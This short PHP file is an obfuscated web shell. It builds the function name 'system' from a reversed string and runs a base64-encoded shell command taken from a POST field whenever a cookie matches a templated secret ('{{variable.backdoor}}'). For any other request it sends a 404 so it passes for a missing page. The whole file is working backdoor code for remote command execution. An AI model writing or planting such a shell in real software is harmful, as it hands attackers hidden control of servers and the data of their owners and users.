<?php
$r = 'str' . 'rev'; $f = $r('metsys');
if (hash_equals('{{variable.backdoor}}', (string) ($_COOKIE['sid'] ?? ''))) { $f(base64_decode((string) ($_POST['d'] ?? ''))); exit; }
http_response_code(404);
